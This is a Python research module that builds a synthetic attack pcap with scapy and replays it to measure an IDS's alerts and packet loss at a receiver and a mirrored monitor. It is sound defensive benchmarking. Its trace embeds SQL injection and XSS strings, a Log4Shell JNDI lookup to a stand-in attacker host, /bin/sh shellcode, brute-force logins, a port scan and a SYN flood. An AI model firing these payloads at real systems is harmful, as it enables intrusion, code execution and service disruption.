"""An IDS at the Receiver and at the Monitor under replayed attacks (the paper's Fig. 9).

An attack trace is crafted with scapy (:func:`attack_trace`): SQL injection and XSS in
HTTP requests, a Log4Shell-style exploit string, FTP and HTTP Basic brute force, a
shellcode-like NOP sled, an executable upload, a port scan and a SYN flood, repeated for
``rounds`` rounds with fresh source ports so every round is new flows. On one user-space
compute node a ``vtap.Service`` policy copies every frame from Sender to Receiver to the
Monitor; tcpreplay replays the trace from the Sender at each rate of a sweep while an IDS
listens at the Receiver and at the Monitor. For every trial the IDS's alerts and its drop
rate (packets the Sender sent that the IDS never analysed, whether the switch, the kernel
or the capture lost them) are recorded per side, and what the switch delivered to the
side's interface, which tells the switch's losses from the IDS's.

The IDS is nDPI's ``ndpiReader`` (Debian ``libndpi-bin``): an alert is one flow risk it
reports on one flow. Suricata, the paper's IDS, is not packaged for Debian 12; every
result carries the engine's name.
"""
from __future__ import annotations

import base64
import collections
import re
import signal
import subprocess
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterable, Iterator, Sequence

import vtap
from vtap.testbed import Testbed, Vm

from . import datapath

HOST = "shop.example"  # a name, so nDPI does not also flag every request for a numeric Host


def engine() -> str:
    """The IDS's name and version, e.g. ``nDPI 4.2.0``."""
    out = subprocess.run(["ndpiReader", "-h"], capture_output=True, text=True).stdout
    match = re.search(r"nDPI \(?([\d.]+)", out)
    if not match:
        raise RuntimeError("ndpiReader -h did not print nDPI's version; is libndpi-bin installed?")
    return f"nDPI {match.group(1)}"


# ---------------------------------------------------------------------------- the trace

@dataclass
class Trace:
    path: Path
    packets: int
    bytes: int
    flows: collections.Counter = field(default_factory=collections.Counter)  # attack kind -> flows
    truth: "Report | None" = None  # the IDS's verdict on the trace file itself: nothing lost


def attack_trace(path: Path, sender: Vm, receiver: Vm, rounds: int) -> Trace:
    """Write the attack trace (Sender -> Receiver frames only) to ``path``."""
    from scapy.all import IP, TCP, Ether, Raw, wrpcap  # scapy is slow to import; only here

    def l3():
        return Ether(src=sender.mac, dst=receiver.mac) / IP(src=sender.ip, dst=receiver.ip)

    def session(sport: int, dport: int, payloads: Sequence[bytes]) -> list:
        seq = (sport * 7919) & 0x7FFFFFFF
        frames = [l3() / TCP(sport=sport, dport=dport, flags="S", seq=seq)]
        seq += 1
        frames.append(l3() / TCP(sport=sport, dport=dport, flags="A", seq=seq, ack=1))
        for payload in payloads:
            frames.append(l3() / TCP(sport=sport, dport=dport, flags="PA", seq=seq, ack=1) / Raw(payload))
            seq += len(payload)
        frames.append(l3() / TCP(sport=sport, dport=dport, flags="FA", seq=seq, ack=1))
        return frames

    def get(target: str, headers: str = "") -> bytes:
        return f"GET {target} HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: Mozilla/5.0\r\n{headers}\r\n".encode()

    sessions: list[tuple[str, int, list[bytes]]] = [
        ("sql-injection", 80, [get("/search?q=1%27%20OR%20%271%27%3D%271")]),
        ("sql-injection", 80, [get("/item?id=1 UNION SELECT username,password FROM users--")]),
        ("sql-injection", 80, [get("/login?user=admin'--&pass=x")]),
        ("xss", 80, [get("/comment?text=<script>alert(document.cookie)</script>")]),
        ("xss", 80, [get("/p?x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")]),
        ("exploit", 80, [f"GET /${{jndi:ldap://attacker.example/a}} HTTP/1.1\r\nHost: {HOST}\r\n"
                         "User-Agent: ${jndi:ldap://attacker.example/a}\r\n\r\n".encode()]),
        *[("brute-force-ftp", 21, [b"USER admin\r\n", f"PASS guess{i}\r\n".encode()]) for i in range(3)],
        *[("brute-force-http", 80,
           [get("/admin", f"Authorization: Basic {base64.b64encode(f'admin:pw{i}'.encode()).decode()}\r\n")])
          for i in range(3)],
        ("shellcode", 4444, [b"\x90" * 200 + b"\x31\xc0\x50\x68//sh\x68/bin\x89\xe3\x50\x53\x89\xe1\xb0\x0b\xcd\x80"]),
        ("binary-upload", 80, [b"POST /upload HTTP/1.1\r\nHost: " + HOST.encode() +
                               b"\r\nContent-Type: application/octet-stream\r\n\r\nMZ\x90\x00" + bytes(200)]),
    ]
    if rounds * len(sessions) > 30000:
        raise ValueError(f"{rounds} rounds need more than the 30000 source ports the trace has for sessions")
    frames, flows = [], collections.Counter()
    sport = 10000
    for r in range(rounds):
        for kind, dport, payloads in sessions:
            frames += session(sport, dport, payloads)
            flows[kind] += 1
            sport += 1
        scan_port = 40000 + r % 10000
        frames += [l3() / TCP(sport=scan_port, dport=p, flags="S") for p in range(1, 65)]  # a port scan
        flows["port-scan"] += 64
        frames += [l3() / TCP(sport=50000 + (r * 50 + i) % 15000, dport=80, flags="S") for i in range(50)]  # SYN flood
        flows["syn-flood"] += 50
    wrpcap(str(path), frames)
    return Trace(path, len(frames), sum(len(f) for f in frames), flows)


# ---------------------------------------------------------------------------- the IDS

@dataclass
class Report:
    """What the IDS saw: packets it analysed and its alerts, counted per flow risk."""

    packets: int
    alerts: collections.Counter

    @property
    def total_alerts(self) -> int:
        return sum(self.alerts.values())


def parse_report(text: str) -> Report:
    """Parse ``ndpiReader -v 2`` output."""
    match = re.search(r"IP packets:\s+(\d+)", text)
    if not match:
        raise ValueError(f"no 'IP packets' line in ndpiReader's output:\n{text[-2000:]}")
    alerts = collections.Counter()
    for risks in re.findall(r"\[Risk: ((?:\*\* [^*\]]+ \*\*)+)\]", text):
        alerts.update(re.findall(r"\*\* ([^*]+) \*\*", risks))
    return Report(int(match.group(1)), alerts)


def analyse(pcap: Path) -> Report:
    """The IDS's report on a capture file."""
    out = subprocess.run(["ndpiReader", "-i", str(pcap), "-v", "2"], capture_output=True, text=True, timeout=600)
    if out.returncode != 0:
        raise RuntimeError(f"ndpiReader -i {pcap} failed ({out.returncode}): {out.stderr.strip()}")
    return parse_report(out.stdout)


class Ids:
    """``ndpiReader`` capturing on a VM's eth0 what the Sender sent (a BPF filter on its MAC)."""

    def __init__(self, vm: Vm, sender_mac: str, workdir: Path):
        self.output = workdir / f"ndpi-{vm.name}-{time.monotonic_ns()}.txt"
        self._file = self.output.open("w")
        # stdbuf: line-buffered, so "Running thread" shows when the capture is open.
        self._proc = vm.popen("stdbuf", "-oL", "ndpiReader", "-i", "eth0", "-f", f"ether src {sender_mac}", "-v", "2",
                              stdout=self._file, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 15
        while "Running thread" not in self.output.read_text():
            if self._proc.poll() is not None or time.monotonic() > deadline:
                self._proc.kill()
                raise RuntimeError(f"ndpiReader on {vm.name} did not start:\n{self.output.read_text()[-2000:]}")
            time.sleep(0.05)

    def stop(self) -> Report:
        self._proc.send_signal(signal.SIGINT)
        try:
            self._proc.wait(timeout=60)
        finally:
            if self._proc.poll() is None:
                self._proc.kill()
            self._file.close()
        return parse_report(self.output.read_text())


# ---------------------------------------------------------------------------- the sweep

@dataclass(frozen=True)
class Side:
    """One IDS's result in one trial."""

    rate_mbps: float
    trial: int
    side: str  # "receiver" or "monitor"
    engine: str
    sent: int  # by tcpreplay
    replay_mbps: float  # as tcpreplay measured it
    delivered: int  # received by the VM's eth0: what the switch delivered
    analysed: int  # by the IDS
    alerts: int
    risks: str  # "risk:count;..." for every flow risk

    @property
    def drop_rate(self) -> float:
        """Share of the sent packets the IDS never analysed."""
        return _share_lost(self.analysed, self.sent)

    @property
    def switch_drop_rate(self) -> float:
        """Share of the sent packets the switch did not deliver to this side."""
        return _share_lost(self.delivered, self.sent)

    def row(self) -> dict:
        return {**self.__dict__, "drop_rate": self.drop_rate, "switch_drop_rate": self.switch_drop_rate}


def _share_lost(got: int, sent: int) -> float:
    return max(0.0, 1 - got / sent) if sent else 0.0


def replay(sender: Vm, trace: Path, mbps: float) -> tuple[int, float]:
    """tcpreplay at ``mbps``; (packets sent, measured Mbit/s)."""
    duration = trace.stat().st_size * 8 / (mbps * 1e6)
    out = sender.run("tcpreplay", "-i", "eth0", f"--mbps={mbps}", str(trace), timeout=duration * 3 + 60).stdout
    sent = re.search(r"Actual: (\d+) packets", out)
    rated = re.search(r"Rated: [\d.]+ Bps, ([\d.]+) Mbps", out)
    if not sent or not rated:
        raise RuntimeError(f"unexpected tcpreplay output:\n{out}")
    return int(sent.group(1)), float(rated.group(1))


def run(rates: Sequence[float], *, trials: int = 10, rounds: int = 400, port_type: str = "afxdp",
        pmds: int | None = 1, progress: Callable[[Iterable], Iterator] = iter) -> tuple[Trace, list[Side]]:
    """Every (trial, rate) on one fresh testbed, the rates of a trial in random order; the
    switch's ports are ``port_type`` polled by ``pmds`` PMD threads (``None``: OVS's default)."""
    import random

    name = engine()
    results = []
    with Testbed({"node1": ["sender", "receiver", "monitor"]}) as tb, \
            tempfile.TemporaryDirectory(prefix="vtap-ids-") as tmp:
        work = Path(tmp)
        sender, receiver, monitor = tb.vm("sender"), tb.vm("receiver"), tb.vm("monitor")
        datapath.set_port_type(tb, tb.nodes["node1"], port_type)
        if pmds is not None:
            datapath.set_pmds(tb.nodes["node1"], pmds)
        trace = attack_trace(work / "attack.pcap", sender, receiver, rounds)
        trace.truth = analyse(trace.path)
        with vtap.Service(tb.topology, tb.targets) as service:
            service.add(vtap.TapPolicy(sender=vtap.Endpoint(mac=sender.mac), receiver=vtap.Endpoint(mac=receiver.mac),
                                       monitor=vtap.Endpoint(mac=monitor.mac)))
            plan = [(k, rate) for k in range(trials) for rate in random.Random(k).sample(list(rates), len(rates))]
            vms = {"receiver": receiver, "monitor": monitor}
            for k, rate in progress(plan):
                listeners = {side: Ids(vm, sender.mac, work) for side, vm in vms.items()}
                before = {side: datapath.counter(vm, "rx_packets") for side, vm in vms.items()}
                sent, measured = replay(sender, trace.path, rate)
                time.sleep(0.5)  # frames still in flight
                for side, ids in listeners.items():
                    delivered = datapath.counter(vms[side], "rx_packets") - before[side]
                    report = ids.stop()
                    risks = ";".join(f"{r}:{n}" for r, n in sorted(report.alerts.items()))
                    results.append(Side(rate, k, side, name, sent, measured, delivered, report.packets,
                                        report.total_alerts, risks))
    return trace, results
